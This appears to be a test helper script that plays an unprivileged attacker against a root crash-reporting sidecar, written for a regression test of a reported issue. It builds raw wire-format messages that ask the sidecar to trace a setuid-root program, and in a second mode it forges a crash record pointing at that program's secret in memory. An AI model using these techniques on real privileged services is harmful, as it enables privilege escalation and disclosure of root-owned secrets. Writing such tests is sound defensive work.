#!/usr/bin/env python3
"""attacker.py MODE SOCKET ... : an unprivileged user's attacks on a root sidecar (issue 30),
with the sidecar's own wire format.

  trace SOCKET PROGRAM ARGS...    HELLO asking to be traced for life (CP_WANTS_TRACE_EXIT), the
                                  connection kept across exec ("hello PID" once answered), then
                                  exec PROGRAM (setuid root)
  race SOCKET ADDRESS PROGRAM ... a CRASH record about itself whose rsp is ADDRESS (hex, where
                                  PROGRAM keeps its secret), sent just before exec PROGRAM (no
                                  HELLO: the test holds the sidecar with SIGSTOP until PROGRAM is
                                  ready, so the race is always won)
"""
import os, socket, struct, sys

MAGIC, VERSION = 0x54525043, 3
HELLO, CRASH = 1, 2
FIXED = 1784  # offsetof(cp_crash, stack)
WANTS_TRACE_EXIT = 0x1
REGS = 88  # offsetof(cp_crash, regs); user_regs_struct: rip is 16, rsp 19

mode, path = sys.argv[1], sys.argv[2]
connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
connection.connect(path)
connection.set_inheritable(True)

if mode == "trace":
    hello = bytearray(88)
    hello[0:16] = struct.pack("<4I", MAGIC, VERSION, 88, HELLO)
    struct.pack_into("<II", hello, 16, os.getpid(), 1)
    struct.pack_into("<I", hello, 80, WANTS_TRACE_EXIT)
    connection.send(bytes(hello))
    connection.recv(65536)  # the reply: the sidecar has seized us by now
    print("hello", os.getpid(), flush=True)
    program = sys.argv[3:]
else:
    address = int(sys.argv[3], 16)
    program = sys.argv[4:]
    record = bytearray(FIXED)
    record[0:16] = struct.pack("<4I", MAGIC, VERSION, FIXED, CRASH)
    struct.pack_into("<IIii", record, 16, os.getpid(), os.getpid(), 6, -6)
    struct.pack_into("<I", record, 44, 62)  # x86_64
    struct.pack_into("<Q", record, REGS + 16 * 8, address)  # rip
    struct.pack_into("<Q", record, REGS + 19 * 8, address)  # rsp
    struct.pack_into("<QI", record, FIXED - 16, address, 0)  # stack_start, stack_size 0
    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    connection.sendmsg([bytes(record)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, struct.pack("i", theirs.fileno()))])
os.execv(program[0], program)
